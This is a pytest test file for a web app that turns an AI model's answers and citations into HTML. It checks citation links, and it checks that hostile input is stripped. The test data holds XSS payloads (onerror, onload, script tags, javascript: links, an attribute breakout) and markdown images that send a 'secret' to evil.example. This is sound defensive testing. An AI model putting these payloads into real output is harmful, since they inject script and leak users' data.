from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.web.answer import answer_html, source_address
from localmind.model import ChunkId, Citation, SourceId


def cite(n: int, *, title: str = "Harbour handbook", page: int | None = 2) -> Citation:
    return Citation(n, ChunkId("chunk"), SourceId("source"), title, 10, 42, "a quote", page)


class Tags(HTMLParser):
    """Every tag of an HTML text, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_a_citation_mark_links_to_the_page_and_range_of_its_quote() -> None:
    (link,) = [attributes for tag, attributes in Tags(answer_html("They close at dusk [1].", [cite(1)])).found if tag == "a"]
    assert link["href"] == "/sources/source?page=2&start=10&end=42"
    assert link["aria-label"] == "Source 1: Harbour handbook, page 2"


def test_a_source_without_pages_is_opened_at_the_range_alone() -> None:
    assert source_address(cite(1, page=None)) == "/sources/source?start=10&end=42"


def test_a_mark_whose_citation_has_not_come_yet_is_no_link() -> None:
    assert '<span class="mark">1</span>' in answer_html("They close at dusk [1].", [])


def test_markdown_of_a_model_is_shown_as_such() -> None:
    html = answer_html("**Gates** close:\n\n- at dusk [1]\n- in storms", [cite(1)])
    assert {"strong", "ul", "li", "a"} <= {tag for tag, _ in Tags(html).found}


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "![pixel](https://evil.example/?q=secret)",
        "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
        "[click](javascript:alert(1))",
        "<https://evil.example>",
        "[1](https://evil.example)",
        '<a class="mark" href="https://evil.example">1</a>',
        "    <svg onload=alert(1)>",
        "```<b onclick=alert(1)>\n<img src=https://evil.example>\n```",
        "[1]: https://evil.example\n\n[1]",
    ],
)
def test_nothing_in_an_answer_loads_or_leads_elsewhere(text: str) -> None:
    found = Tags(answer_html(text, [cite(1)])).found
    assert not [tag for tag, _ in found if tag in {"img", "script", "svg", "b", "iframe", "style"}]
    assert all(str(attributes["href"]).startswith("/sources/") for tag, attributes in found if tag == "a")
    assert not [name for _, attributes in found for name in attributes if name.startswith("on") or name == "src"]


def test_a_title_cannot_leave_its_attribute() -> None:
    found = Tags(answer_html("See [1].", [cite(1, title='"><img src=x onerror=alert(1)>')])).found
    assert {tag for tag, _ in found} == {"p", "a"}
